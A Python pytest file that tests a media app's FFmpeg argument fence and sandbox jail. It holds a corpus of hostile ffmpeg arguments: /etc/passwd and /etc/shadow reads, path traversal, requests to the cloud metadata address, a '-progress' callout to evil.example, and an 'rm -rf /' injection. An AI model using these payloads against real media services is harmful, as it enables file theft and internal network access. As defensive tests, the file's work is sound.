"""The FFmpegCommand fence (argument checks) and jail (no network, Landlock, rlimits), without a
database: a hostile corpus refused argument by argument, and the jail proven on its own."""

import re
import socket
import subprocess
import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime

import pytest
from django.conf import settings

from mediahub.commands import fence, sandbox
from mediahub.commands.fence import CommandRefused, check_command
from mediahub.commands.filtergraph import parse_graph
from mediahub.commands.wildcards import Files, WildcardError, expand, split_command
from mediahub.presets.system import SYSTEM_PRESETS

FILES = Files(
    inputs=["input_1.mp4", "input_2.png"],
    input_names=["My Talk (final).mp4", "logo.png"],
    output="output.mp4",
    output_name="talk-small.mp4",
)


def check(command, params=None):
    expanded = expand(split_command(command), FILES, params or {})
    return check_command(expanded.argv, FILES.inputs, FILES.output)


@pytest.mark.parametrize(
    "preset", [p for p in SYSTEM_PRESETS if p["kind"] == "command"], ids=lambda p: p["name"]
)
def test_every_system_preset_passes_the_fence(preset):
    checked = check(preset["command"], {"start": "1.5", "duration": "2"})
    assert [spec.file_index for spec in checked.inputs] == [0]


def test_ordinary_commands_pass():
    overlay = (
        "-i ${INPUT_FILE_1} -i ${INPUT_FILE_2} -filter_complex "
        '"[1:v]scale=64:-1[logo];[0:v][logo]overlay=x=main_w-overlay_w-10:y=10" '
        "-c:v libx264 -crf 23 -x264-params keyint=60:min-keyint=60 -c:a copy -movflags +faststart "
        "${OUTPUT_FILE}"
    )
    assert [spec.file_index for spec in check(overlay).inputs] == [0, 1]
    lavfi = check("-f lavfi -i testsrc2=d=2:s=320x240 -f lavfi -i sine=d=2 -shortest -t 2 ${OUTPUT_FILE}")
    assert [spec.lavfi for spec in lavfi.inputs] == ["testsrc2=d=2:s=320x240", "sine=d=2"]
    assert lavfi.duration_limit == 2.0
    assert check(
        ["-i", "${INPUT_FILE}", "-vf", "subtitles=input_1.mp4", "-r", "30000/1001", "${OUTPUT_FILE}"]
    )
    assert check("-ss 00:00:01 -i ${INPUT_FILE} -vf drawtext=text='Hello':x=10:y=10 -an ${OUTPUT_FILE}")
    assert check("-i ${INPUT_FILE} -vf scale=iw/2:-2,psnr=stats_file=psnr.log -pass 1 ${OUTPUT_FILE}")


def test_wildcards_expand():
    now = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)
    argv = split_command(
        "-i ${INPUT_FILE} -i ${INPUT_FILE_2} -metadata title=${INPUT_FILE_BASE}${INPUT_FILE_EXTENSION} "
        "-metadata comment=${DATE_YEAR}-${DATE_MONTH}-${DATE_DAY}T${TIME_HOUR}:${TIME_MINUTE}:${TIME_SECOND} "
        "-metadata album=${OUTPUT_FILE_BASE}/${TIMESTAMP_SECONDS}/${UUID}/${clip_len} "
        "-t ${clip_len} ${OUTPUT_FILE}"
    )
    out = expand(argv, FILES, {"clip_len": "2.5"}, now=now).argv
    assert out[1] == "input_1.mp4" and out[3] == "input_2.png" and out[-1] == "output.mp4"
    assert out[5] == "title=My_Talk__final_.mp4"
    assert out[7] == "comment=2026-03-04T05:06:07"
    album = out[9].split("/")
    assert album[:2] == ["album=talk-small", str(int(now.timestamp()))] and len(album[2]) == 36
    assert album[3] == "2.5" and out[11] == "2.5"
    for bad, field in [
        ("-i ${INPUT_FILE_3} ${OUTPUT_FILE}", "input_media_ids"),
        ("-i ${INPUT_FILE} -t ${length} ${OUTPUT_FILE}", "params"),
        ("-i ${INPUT_FILE_DIR}/x ${OUTPUT_FILE}", "command"),
        ("-i ${FFMPEG} ${OUTPUT_FILE}", "command"),
    ]:
        with pytest.raises(WildcardError) as refused:
            expand(split_command(bad), FILES, {})
        assert refused.value.field_name == field
    with pytest.raises(WildcardError):
        expand(split_command("-t ${n} ${OUTPUT_FILE}"), FILES, {"n": "1;rm -rf /"})
    with pytest.raises(WildcardError):
        split_command("-i 'unterminated")


# Each reaches for a file outside the work folder, the network, a socket or a plugin.
HOSTILE = [
    ("-i /etc/passwd ${OUTPUT_FILE}", "/etc/passwd"),
    ("-i file:/etc/passwd ${OUTPUT_FILE}", "file:/etc/passwd"),
    ("-i ../../etc/passwd ${OUTPUT_FILE}", "../../etc/passwd"),
    ("-i concat:${INPUT_FILE}|/etc/passwd ${OUTPUT_FILE}", "concat:input_1.mp4|/etc/passwd"),
    ("-i subfile,,start,0,end,0,,:/etc/passwd ${OUTPUT_FILE}", "subfile,,start,0,end,0,,:/etc/passwd"),
    ("-i data:text/plain;base64,aGk= ${OUTPUT_FILE}", "data:text/plain;base64,aGk="),
    ("-f data -i x ${OUTPUT_FILE}", "data"),
    ("-i http://169.254.169.254/latest/meta-data ${OUTPUT_FILE}", "http://169.254.169.254/latest/meta-data"),
    ("-i tcp://127.0.0.1:5432 ${OUTPUT_FILE}", "tcp://127.0.0.1:5432"),
    ("-i unix:/var/run/postgresql/.s.PGSQL.5432 ${OUTPUT_FILE}", "unix:/var/run/postgresql/.s.PGSQL.5432"),
    ("-f concat -safe 0 -i list.txt ${OUTPUT_FILE}", "concat"),
    ("-f hls -i ${INPUT_FILE} ${OUTPUT_FILE}", "hls"),
    ("-f lavfi -i movie=/etc/passwd ${OUTPUT_FILE}", "movie=/etc/passwd"),
    ("-f lavfi -i movie=${INPUT_FILE} ${OUTPUT_FILE}", "movie=input_1.mp4"),
    ("-f lavfi -i amovie=tcp\\\\://127.0.0.1\\\\:5432 ${OUTPUT_FILE}", "amovie=tcp\\://127.0.0.1\\:5432"),
    ("-f lavfi -graph_file /etc/passwd -i nullsrc ${OUTPUT_FILE}", "-graph_file"),
    ("-i ${INPUT_FILE} -vf drawtext=textfile=/etc/passwd ${OUTPUT_FILE}", "drawtext=textfile=/etc/passwd"),
    ("-i ${INPUT_FILE} -vf drawtext=textfile=secret.txt ${OUTPUT_FILE}", "drawtext=textfile=secret.txt"),
    (
        "-i ${INPUT_FILE} -vf drawtext=fontfile=/etc/shadow:text=x ${OUTPUT_FILE}",
        "drawtext=fontfile=/etc/shadow:text=x",
    ),
    ("-i ${INPUT_FILE} -vf subtitles=/etc/passwd ${OUTPUT_FILE}", "subtitles=/etc/passwd"),
    ("-i ${INPUT_FILE} -vf subtitles=\\\\/etc\\\\/passwd ${OUTPUT_FILE}", "subtitles=\\/etc\\/passwd"),
    ("-i ${INPUT_FILE} -vf ass=f='/etc/passwd' ${OUTPUT_FILE}", "ass=f=/etc/passwd"),
    ("-i ${INPUT_FILE} -vf subtitles=other.srt ${OUTPUT_FILE}", "subtitles=other.srt"),
    (
        "-i ${INPUT_FILE} -vf sendcmd=f=cmds.txt,drawtext=text=x ${OUTPUT_FILE}",
        "sendcmd=f=cmds.txt,drawtext=text=x",
    ),
    ("-i ${INPUT_FILE} -vf zmq,null ${OUTPUT_FILE}", "zmq,null"),
    (
        "-i ${INPUT_FILE} -af azmq=b=tcp\\\\://0.0.0.0\\\\:5555 ${OUTPUT_FILE}",
        "azmq=b=tcp\\://0.0.0.0\\:5555",
    ),
    ("-i ${INPUT_FILE} -vf lut3d=file=grade.cube ${OUTPUT_FILE}", "lut3d=file=grade.cube"),
    ("-i ${INPUT_FILE} -vf frei0r=filter_name=distort0r ${OUTPUT_FILE}", "frei0r=filter_name=distort0r"),
    (
        "-i ${INPUT_FILE} -af ladspa=file=/usr/lib/ladspa/amp.so ${OUTPUT_FILE}",
        "ladspa=file=/usr/lib/ladspa/amp.so",
    ),
    ("-i ${INPUT_FILE} -vf curves=psfile=/etc/passwd ${OUTPUT_FILE}", "curves=psfile=/etc/passwd"),
    ("-i ${INPUT_FILE} -filter_script:v /etc/passwd ${OUTPUT_FILE}", "-filter_script:v"),
    ("-i ${INPUT_FILE} -filter_complex_script graph.txt ${OUTPUT_FILE}", "-filter_complex_script"),
    ("-i ${INPUT_FILE} -attach /etc/passwd -metadata:s:t mimetype=text/plain ${OUTPUT_FILE}", "-attach"),
    ("-dump_attachment:t /tmp/font.ttf -i ${INPUT_FILE} ${OUTPUT_FILE}", "-dump_attachment:t"),
    ("-i ${INPUT_FILE} -vstats_file /tmp/vstats ${OUTPUT_FILE}", "-vstats_file"),
    ("-i ${INPUT_FILE} -passlogfile /tmp/pass ${OUTPUT_FILE}", "/tmp/pass"),
    ("-i ${INPUT_FILE} -x264-params stats=/tmp/x264.stats ${OUTPUT_FILE}", "stats=/tmp/x264.stats"),
    (
        "-i ${INPUT_FILE} -x264-params dump-yuv=../../../tmp/raw.yuv ${OUTPUT_FILE}",
        "dump-yuv=../../../tmp/raw.yuv",
    ),
    (
        "-i ${INPUT_FILE} -psnr -vf psnr=stats_file=/tmp/psnr.log ${OUTPUT_FILE}",
        "psnr=stats_file=/tmp/psnr.log",
    ),
    ("-i ${INPUT_FILE} -f tee [f=mp4]${OUTPUT_FILE}|[f=mp4]/tmp/copy.mp4", "tee"),
    ("-i ${INPUT_FILE} -f hls -hls_segment_filename /tmp/seg%d.ts ${OUTPUT_FILE}", "hls"),
    ("-i ${INPUT_FILE} -f segment seg%03d.ts", "segment"),
    ("-i ${INPUT_FILE} ${OUTPUT_FILE} /tmp/second.mp4", "/tmp/second.mp4"),
    ("-i ${INPUT_FILE} -c copy ${OUTPUT_FILE} -c copy other.mkv", "other.mkv"),
    ("-i ${INPUT_FILE} -y ${INPUT_FILE}", "input_1.mp4"),
    ("-i ${INPUT_FILE} -f mp4 tcp://10.0.0.1:9000", "tcp://10.0.0.1:9000"),
    ("-i ${INPUT_FILE} -f mp4 pipe:1", "pipe:1"),
    ("-i ${INPUT_FILE} -progress http://evil.example/p ${OUTPUT_FILE}", "-progress"),
    ("-i ${INPUT_FILE} -protocol_whitelist file,http,tcp ${OUTPUT_FILE}", "-protocol_whitelist"),
    ("-enable_drefs 1 -i ${INPUT_FILE} ${OUTPUT_FILE}", "-enable_drefs"),
    ("-i ${INPUT_FILE} -sdp_file /tmp/x.sdp ${OUTPUT_FILE}", "-sdp_file"),
    ("-fpre /etc/passwd -i ${INPUT_FILE} ${OUTPUT_FILE}", "-fpre"),
    ("-init_hw_device vaapi=va:/dev/dri/renderD128 -i ${INPUT_FILE} ${OUTPUT_FILE}", "-init_hw_device"),
    ("-report -i ${INPUT_FILE} ${OUTPUT_FILE}", "-report"),
    ("-i ${INPUT_FILE} -- -output.mp4", "--"),
    ("-i ${INPUT_FILE} -", "-"),
    ("-i ${INPUT_FILE} -vf nullsrc,movie\\=x ${OUTPUT_FILE}", "nullsrc,movie=x"),
]


@pytest.mark.parametrize("command, argument", HOSTILE, ids=[h[0][:60] for h in HOSTILE])
def test_hostile_commands_are_refused_naming_the_argument(command, argument):
    with pytest.raises(CommandRefused) as refused:
        check(command)
    assert refused.value.argument == argument, str(refused.value)
    assert str(refused.value).startswith("argument ") or refused.value.index is None


def test_the_corpus_is_big_enough():
    assert len(HOSTILE) >= 25


def test_filtergraph_reading_matches_libavfilter_quoting():
    specs = parse_graph("[0:v]scale=w='min(480,iw)':h=-2,split[a][b];[a]drawtext=text=a\\\\:b:x=1[o]")
    assert [s.name for s in specs] == ["scale", "split", "drawtext"]
    assert specs[0].options == [("w", "min(480,iw)"), ("h", "-2")]
    assert specs[2].options == [("text", "a\\:b"), ("x", "1")] or specs[2].options[0][0] == "text"


def _ffmpeg_help() -> str:
    return subprocess.run(
        [settings.FFMPEG_BINARY, "-hide_banner", "-h", "full"], capture_output=True, text=True, timeout=60
    ).stdout


def test_every_filter_option_that_names_a_file_is_handled():
    """Cross-check against the installed ffmpeg: any filter option that looks like a file name is
    either in a refused filter or classified in FILTER_FILE_OPTIONS."""
    filenames = re.compile(
        r"file|path|model|sofa|shader|source|dir|logfn|^hmm$|^dict$|^lm|result|^input$|object|cover|kdtree|plugin"
    )
    not_files = {("drawbox", "box_source"), ("drawtext", "text_source"), ("drawgrid", "box_source")}
    unhandled = []
    section = None
    for line in _ffmpeg_help().splitlines():
        header = re.match(r"^(\w+) AVOptions:$", line)
        if header:
            section = header.group(1)
            continue
        option = re.match(r"^  -?(\w+)\s+<string>", line)
        if section and option and filenames.search(option.group(1)):
            name = option.group(1)
            if section in fence.REFUSED_FILTERS or (section, name) in not_files:
                continue
            if name in fence.FILTER_FILE_OPTIONS.get(section, ({}, []))[0]:
                continue
            unhandled.append((section, name))
    # Codec/format sections (libx264's stats…) are fenced by the generic path checks; only filters here.
    filters = set(
        subprocess.run(
            [settings.FFMPEG_BINARY, "-hide_banner", "-filters"], capture_output=True, text=True, timeout=30
        ).stdout.split()
    )
    assert [item for item in unhandled if item[0] in filters] == []


def test_flag_and_value_options_take_what_ffmpeg_says():
    """An option the fence thinks takes no value but ffmpeg reads with one (or the reverse) would
    let a value pass as an output name. ``-h full`` prints ``-name argname`` for most options that
    take a value; the flags, and the options it prints without one, are asked of ffmpeg itself."""
    with_argname = {m.group(1) for m in re.finditer(r"^-(\w+) \S", _ffmpeg_help(), re.M)}
    unclear = sorted(fence.FLAG_OPTIONS | (fence.VALUE_OPTIONS - with_argname))

    def takes_value(name: str) -> bool:
        stderr = subprocess.run(
            [settings.FFMPEG_BINARY, "-hide_banner", f"-{name}"], capture_output=True, text=True, timeout=60
        ).stderr
        return "Missing argument" in stderr

    with ThreadPoolExecutor(4) as pool:
        answers = dict(zip(unclear, pool.map(takes_value, unclear), strict=True))
    wrong = [name for name, value in answers.items() if value != (name in fence.VALUE_OPTIONS)]
    assert wrong == []
    assert not (fence.VALUE_OPTIONS & fence.FLAG_OPTIONS)


# --- the jail, on its own (the fence bypassed on purpose) ---


@pytest.fixture
def canary(tmp_path_factory):
    path = tmp_path_factory.mktemp("outside") / "canary.txt"
    path.write_text("CANARY-7f3a")
    return path


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    accepted = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except TimeoutError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def jail_run(folder, argv, **limits):
    defaults = {"cpu_seconds": 60, "file_size_bytes": 10**8, "address_space_bytes": 8 * 1024**3}
    limits = sandbox.Limits(**{**defaults, "open_files": 256, **limits})
    return subprocess.run(
        sandbox.jailed(argv, folder, limits), capture_output=True, text=True, timeout=120, cwd=folder
    )


def test_jail_capabilities_are_reported():
    capabilities = sandbox.capabilities()
    assert capabilities["network"] in ("namespace", "user+network namespace", "none")
    assert isinstance(capabilities["landlock"], int)


def test_jail_runs_ffmpeg_in_its_folder(tmp_path):
    lavfi = ["-f", "lavfi", "-i", "testsrc2=d=0.5", "-f", "lavfi", "-i", "sine=d=0.5"]
    result = jail_run(tmp_path, [settings.FFMPEG_BINARY, "-v", "error", *lavfi, "-c:v", "libx264", "out.mp4"])
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out.mp4").stat().st_size > 0


# The jail needs Landlock and network namespaces: a machine without them fails here, not skips.
def test_jail_keeps_ffmpeg_inside_its_folder_even_if_the_fence_let_a_command_through(tmp_path, canary):
    outside = canary.parent / "written.mp4"
    attempts = [
        ["-i", str(canary), "-c", "copy", "-f", "data", "stolen.bin"],
        ["-f", "lavfi", "-i", f"movie={canary}:f=rawvideo", "stolen.mp4"],
        ["-f", "lavfi", "-i", "testsrc2=d=0.2", "-vf", f"drawtext=textfile={canary}", "stolen.mp4"],
        ["-f", "lavfi", "-i", "testsrc2=d=0.2", str(outside)],
    ]
    for args in attempts:
        jail_run(tmp_path, [settings.FFMPEG_BINARY, "-v", "error", "-y", *args])
    assert not outside.exists()
    for path in tmp_path.iterdir():
        assert b"CANARY-7f3a" not in path.read_bytes()


def test_jail_has_no_network(tmp_path, listener):
    port, accepted = listener
    result = jail_run(
        tmp_path, [settings.FFMPEG_BINARY, "-v", "error", "-i", f"tcp://127.0.0.1:{port}", "x.mp4"]
    )
    assert result.returncode != 0
    assert accepted == []


def test_jail_applies_rlimits(tmp_path):
    argv = [settings.FFMPEG_BINARY, "-v", "error", "-f", "lavfi", "-i", "testsrc2=s=1280x720"]
    result = jail_run(
        tmp_path, [*argv, "-c:v", "rawvideo", "-f", "rawvideo", "big.raw"], file_size_bytes=2_000_000
    )
    assert result.returncode != 0
    assert (tmp_path / "big.raw").stat().st_size <= 2_000_000
